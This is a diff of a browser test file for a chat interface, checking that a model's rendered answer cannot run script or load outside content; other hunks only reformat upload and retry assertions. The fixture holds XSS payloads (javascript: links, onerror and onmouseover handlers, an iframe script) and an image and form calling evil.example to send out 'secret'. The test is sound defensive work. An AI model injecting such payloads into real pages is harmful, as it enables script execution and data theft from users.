@@ -88,9 +88,11 @@ it("lets nothing of an answer run, load or hide in the page", async () => {
     "[a](javascript:hit=1) [b](data:text/html,x) [c](vbscript:x) [d](//evil.example/x)",
     "![pixel](https://evil.example/pixel.png?said=secret)",
     "<a href='javascript:hit=1' id=prompt class=dialog>go</a>",
-    "$\\href{javascript:hit=1}{x}$ $\\htmlClass{dialog}{y}$ $\\includegraphics{https://evil.example/i}$",
+    "$\\href{javascript:hit=1}{x}$ $\\htmlClass{dialog}{y}$",
+    "$\\includegraphics{https://evil.example/i}$",
     "```html\n<img src=x onerror=hit=1>\n```",
-    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe><form action=https://evil.example><input name=q>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<form action=https://evil.example><input name=q>",
     "| <b onmouseover=hit=1>h</b> |\n|---|\n| x |",
   ].join("\n\n");
   server.answering = () => ({ kind: "pieces", pieces: inPieces(hostile) });
@@ -158,9 +160,7 @@ it("sends files as text, and refuses others", async () => {
   await input.setInputFiles({ name: "a.txt", mimeType: "text/plain", buffer });
   await page.locator("#files li").waitFor();
   await ask("What is in it?");
-  expect(server.asked[0]!.messages[0]!.content).toBe(
-    "a.txt:\n```\nalpha\n```\n\nWhat is in it?",
-  );
+  expect(server.asked[0]!.messages[0]!.content).toBe("a.txt:\n```\nalpha\n```\n\nWhat is in it?");
 });
 
 it("tells what went wrong, and asks again", async () => {
@@ -170,7 +170,10 @@ it("tells what went wrong, and asks again", async () => {
   await page.getByTestId("chat-error").getByText("Too many at once.").waitFor();
   server.answering = () => ({ kind: "pieces", pieces: inPieces("half an"), breakOff: true });
   await page.getByTestId("chat-retry").click();
-  await page.getByTestId("chat-error").getByText(/ended in the middle|cannot be reached/).waitFor();
+  await page
+    .getByTestId("chat-error")
+    .getByText(/ended in the middle|cannot be reached/)
+    .waitFor();
   expect((await texts())[1]).toBe("half an");
   server.answering = () => ({ kind: "pieces", pieces: inPieces("whole") });
   await page.getByTestId("chat-retry").click();
